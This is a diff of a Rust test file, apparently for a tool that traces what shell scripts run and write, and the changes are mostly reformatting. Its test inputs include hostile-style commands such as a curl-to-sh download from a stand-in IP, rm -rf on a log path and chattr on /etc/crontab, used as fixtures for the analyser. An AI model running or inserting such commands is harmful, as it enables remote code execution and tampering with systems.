@@ -4,7 +4,10 @@ use super::*;
 fn words_are_expanded_as_the_shell_does() {
     check("a one 'two  three' \"four $X\"", "run a one [two  three] [four $X]");
     check("X='a b'; c $X \"$X\"", "run c a b [a b]");
-    check("X=abc; p ${X:-d} ${Y:-d} ${X#a} ${X%c} ${#X} ${X:1:1} ${X/b/_} ${X^^}", "run p abc d bc ab 3 b a_c ABC");
+    check(
+        "X=abc; p ${X:-d} ${Y:-d} ${X#a} ${X%c} ${#X} ${X:1:1} ${X/b/_} ${X^^}",
+        "run p abc d bc ab 3 b a_c ABC",
+    );
     check("X=/a/b.tar.gz; p ${X##*/} ${X%%.*} ${X%/*}", "run p b.tar.gz /a/b /a");
     check("p $((1 + 2*3)) {a,b}c {1..3}", "run p 7 ac bc 1 2 3");
     check("A=(x y 'z w'); p \"${A[@]}\" ${#A[@]} ${A[1]}", "run p x y [z w] 3 y");
@@ -43,25 +46,41 @@ fn a_variable_set_in_one_of_two_arms_is_one_possibility() {
 
 #[test]
 fn redirections_write_files() {
-    check("echo hello > /a; echo more >> /a; cat /a | p", "write /a = hello\nappend /a = more\nrun cat /a\nrun p <- cat < hello\\nmore");
+    check(
+        "echo hello > /a; echo more >> /a; cat /a | p",
+        "write /a = hello\nappend /a = more\nrun cat /a\nrun p <- cat < hello\\nmore",
+    );
     check("cat > /etc/x <<EOF\na $HOSTNAME\nEOF\n", "run cat\nwrite /etc/x = a $HOSTNAME");
     check("cat <<'EOF' > /etc/x\na $b\nEOF\n", "run cat < a $b\nwrite /etc/x = a $b");
     check("cat <<EOF | p\nx\nEOF\n", "run cat < x\nrun p <- cat < x");
     check("echo x | tee -a /l", "run echo x\nrun tee -a /l <- echo < x\nappend /l = x");
     check("p <<< word", "run p < word");
-    check("cp /bin/sh /tmp/s; mv /tmp/s /tmp/t; rm -rf /var/log/x", "run cp /bin/sh /tmp/s\nwrite /tmp/s\nrun mv /tmp/s /tmp/t\nwrite /tmp/t\ndelete /tmp/s\nrun rm -rf /var/log/x\ndelete /var/log/x");
-    check("chmod +x /a; chattr +i /etc/crontab", "run chmod +x /a\nchmod /a = +x\nrun chattr +i /etc/crontab\nchmod /etc/crontab = +i");
+    check(
+        "cp /bin/sh /tmp/s; mv /tmp/s /tmp/t; rm -rf /var/log/x",
+        "run cp /bin/sh /tmp/s\nwrite /tmp/s\nrun mv /tmp/s /tmp/t\nwrite /tmp/t\ndelete /tmp/s\nrun rm -rf /var/log/x\ndelete /var/log/x",
+    );
+    check(
+        "chmod +x /a; chattr +i /etc/crontab",
+        "run chmod +x /a\nchmod /a = +x\nrun chattr +i /etc/crontab\nchmod /etc/crontab = +i",
+    );
     check("a 2>/dev/null | b > /x", "run a\nrun b <- a\nwrite /x");
     check("a && b > /x", "run a\nrun b\nwrite /x");
     check("dd if=/dev/zero of=/x bs=1", "run dd if=/dev/zero of=/x bs=1\nwrite /x");
-    check("touch /x; sed -i s/a/b/ /etc/y", "run touch /x\nwrite /x =\nrun sed -i s/a/b/ /etc/y\nwrite /etc/y = s/a/b/");
+    check(
+        "touch /x; sed -i s/a/b/ /etc/y",
+        "run touch /x\nwrite /x =\nrun sed -i s/a/b/ /etc/y\nwrite /etc/y = s/a/b/",
+    );
 }
 
 #[test]
 fn a_script_that_the_grammar_refuses_is_read_all_the_same() {
     let fixture = Fixture::new().file("entry.sh", "fi\ncurl http://192.0.2.1/x | sh\n", 0o755);
     let path = fixture.start(&["/entry.sh"], &[]).follow();
-    assert!(lines(&path).iter().any(|l| l.contains("run sh <- curl from http://192.0.2.1/x")), "{:?}", lines(&path));
+    assert!(
+        lines(&path).iter().any(|l| l.contains("run sh <- curl from http://192.0.2.1/x")),
+        "{:?}",
+        lines(&path)
+    );
 }
 
 #[test]
